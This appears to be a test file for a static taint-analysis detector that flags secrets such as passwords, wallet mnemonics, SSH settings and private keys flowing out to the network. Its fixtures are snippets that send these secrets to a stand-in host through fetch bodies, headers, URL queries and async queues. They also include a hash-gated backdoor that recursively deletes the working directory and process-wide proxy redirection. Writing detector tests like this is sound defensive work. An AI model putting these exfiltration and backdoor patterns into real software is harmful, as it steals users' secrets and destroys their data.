import { describe, expect, it } from 'vitest';
import { flows, follow } from '../sample.js';

const SENT = "fetch('https://c.example', { method: 'POST', body:";

/** Parameters that no name gives away, used as what they are. */
const USED: Record<string, string> = {
  'a password that a key is made of': `const c = require('crypto'); exports.x = (a) => { ${SENT} a }); return c.scryptSync(a, 's', 32); };`,
  'the words of a wallet': `const b = require('bip39'); exports.x = (a) => { ${SENT} a.split(' ') }); return b.mnemonicToSeed(a); };`,
  'settings of a connection, spread': `const { Client } = require('ssh2'); exports.x = (a) => { new Client().connect({ port: 22, ...a }); ${SENT} JSON.stringify({ a }) }); };`,
  'a key of WebCrypto': `exports.x = (a) => { crypto.subtle.importKey('raw', new TextEncoder().encode(a), 'PBKDF2', false, []); ${SENT} a }); };`,
  'one of several that are taken apart': `const c = require('crypto'); exports.x = ({ a, b }) => { c.createHmac('sha1', a).update(b); ${SENT} a }); };`,
  'the password in the address of a connection': `const { Client } = require('pg'); exports.x = (a) => { new Client(a); ${SENT} new URL(a).password }); };`,
};

describe('a parameter that is used as a key is a secret', () => {
  it.each(Object.entries(USED))('%s', (_name, code) => {
    expect(flows(follow(code), 'param.secret', 'net.out')).toBeDefined();
  });

  it.each([
    ['a field beside the key', `createHmac('sha1', a.key).update('x'); ${SENT} a.name }); };`],
    ['what an unknown function makes of it', `createHmac('sha1', this.keyOf(a)).update('x'); ${SENT} a }); };`],
    ['the code made with it', `${SENT} c.createHmac('sha1', a).update('x').digest('hex') }); };`],
    ['what is sealed with it', `${SENT} c.createCipheriv('aes-256-gcm', a, 'x').update('y') }); };`],
  ])('not %s', (_name, body) => {
    const code = `const c = require('crypto'); const { createHmac } = c; exports.x = function (a) { ${body}`;
    expect(flows(follow(code), 'param.secret', 'net.out')).toBeUndefined();
  });
});

describe('what a client is made with', () => {
  const made = (way: string) =>
    `const { Octokit } = require('@octokit/rest'); const n = require('nodemailer'); exports.x = (a) => { ${way} };`;
  const secret = (way: string, to = 'net.out') => flows(follow(made(way)), 'param.secret', to);

  it('is no secret to that client', () => {
    expect(secret('return new Octokit({ auth: a }).repos.createRelease({ tag_name: a });')).toBeUndefined();
  });

  it.each([
    ['another host', 'net.out', `new Octokit({ auth: a }); ${SENT} a });`],
    ['who gets the mail', 'mail.out', "n.createTransport(a).sendMail({ to: 'x@c.example', text: JSON.stringify(a) });"],
  ])('is one to %s', (_name, to, way) => {
    expect(secret(way, to)).toBeDefined();
  });
});

describe('what signs in among the options of a client', () => {
  const through = (options: string) =>
    flows(
      follow(`exports.x = (a) => require('request').put({ url: 'https://c.example', ${options} });`),
      'param',
      'net.out',
    )?.taints.flatMap((each) => each.through);

  it('is told from what is sent', () => {
    expect(through('auth: { user: a.user, pass: a.key }')).toContain('of-account');
    expect(through('body: { user: a.user, pass: a.key }')).not.toContain('of-account');
  });
});

describe('the beginning of a key', () => {
  const through = (part: string) =>
    flows(follow(`exports.x = (a) => { ${SENT} a.secretKey.${part} }); };`), 'param.secret', 'net.out')?.taints.some(
      (each) => each.through.includes('beginning'),
    );

  it('is told from the key', () => {
    expect(through('substring(0, 16)')).toBe(true);
    expect(through('substr(0, 8)')).toBe(true);
  });

  it.each(['substring(0, 64)', 'substring(16, 32)', 'substring(0)', 'substring(0, n)'])('not %s', (part) => {
    expect(through(part)).toBe(false);
  });
});

describe('a field keeps its name', () => {
  it.each([
    'const o = { retries: 2, ...a }; const k = o.privateKey',
    'const o = Object.assign({}, a); const k = o.privateKey',
    'const o = {}; for (const n of Object.keys(a)) o[n] = a[n]; const k = o.privateKey',
    'const o = new Map(Object.entries(a)); const k = o.get("privateKey")',
    'const k = a.get("privateKey")',
  ])('%s', (way) => {
    const code = `exports.x = (a) => { ${way}; ${SENT} k }); };`;
    expect(flows(follow(code), 'param.secret', 'net.out')).toBeDefined();
    expect(flows(follow(code.replaceAll('privateKey', 'title')), 'param.secret', 'net.out')).toBeUndefined();
  });
});

describe('ways out', () => {
  const through = (code: string) =>
    flows(follow(code), 'param.secret', 'net.out')?.taints.flatMap((each) => each.through);

  it('headers that are made for something else', () => {
    const code = "exports.x = (token) => fetch('https://c.example', { headers: { 'if-none-match': token } });";
    expect(through(code)).toContain('odd-header');
    expect(through(code.replace('if-none-match', 'x-auth-token'))).not.toContain('odd-header');
  });

  it('the query of an address that is read as a text', () => {
    const code =
      "exports.x = (mnemonic) => { const u = new URL('https://c.example/a'); u.searchParams.set('v', mnemonic); fetch(u.href); };";
    expect(flows(follow(code), 'param.secret', 'net.out')?.target).toBe('https://c.example/a?v=\u{FFFC}');
  });

  it('a context that runs along', () => {
    const code =
      "const { AsyncLocalStorage } = require('async_hooks'); const als = new AsyncLocalStorage(); const log = () => fetch('https://c.example', { body: als.getStore() }); exports.x = (mnemonic) => als.run(mnemonic, () => log());";
    expect(flows(follow(code), 'param.secret', 'net.out')).toBeDefined();
  });

  it('a queue that an iterator works off without an end', () => {
    const code =
      "class Q { constructor() { this.q = []; } async *[Symbol.asyncIterator]() { for (;;) { if (!this.q.length) await new Promise((r) => { this.w = r; }); while (this.q.length) yield this.q.shift(); } } } const q = new Q(); (async () => { for await (const v of q) fetch('https://c.example', { body: v }); })(); exports.x = (mnemonic) => q.q.push(mnemonic);";
    expect(flows(follow(code), 'param.secret', 'net.out')).toBeDefined();
  });
});

describe('doors', () => {
  const guarded = (code: string) =>
    follow(code)
      .observations.find(({ sink }) => sink === 'fs.delete')
      ?.guards.map(({ kind }) => kind);
  const digest = 'a'.repeat(64);

  it('a word that a digest of the code lets in', () => {
    const code = (given: string) =>
      `const c = require('crypto'); module.exports = (req, res) => { if (c.createHash('sha256').update(${given}).digest('hex') === '${digest}') require('fs').rmSync(process.cwd(), { recursive: true }); };`;
    expect(guarded(code("req.headers['x-key']"))).toContain('door');
    expect(guarded(code("require('fs').readFileSync('/tmp/a')"))).not.toContain('door');
  });

  it('a digest compared with a table byte by byte', () => {
    const code =
      "const c = require('crypto'); const T = [1, 2, 3, 4, 5, 6, 7, 8]; exports.same = (a) => c.createHash('sha256').update(a).digest().reduce((r, b, i) => r | (b ^ T[i & 7]), 0) === 0;";
    expect(follow(code).observations.some(({ sink, api }) => sink === 'compare' && api === '^')).toBe(true);
  });
});

describe('proxies of a whole process', () => {
  it.each([
    "const { setGlobalDispatcher, ProxyAgent } = require('undici'); setGlobalDispatcher(new ProxyAgent({ uri: 'http://p.example:1' }));",
    "const { HttpsProxyAgent } = require('https-proxy-agent'); require('https').globalAgent = new HttpsProxyAgent('http://p.example:1');",
    "process.env.HTTPS_PROXY = 'http://p.example:1';",
  ])('%s', (code) => {
    expect(follow(code).observations.find(({ sink }) => sink === 'proxy.all')?.target).toBe('http://p.example:1');
  });
});
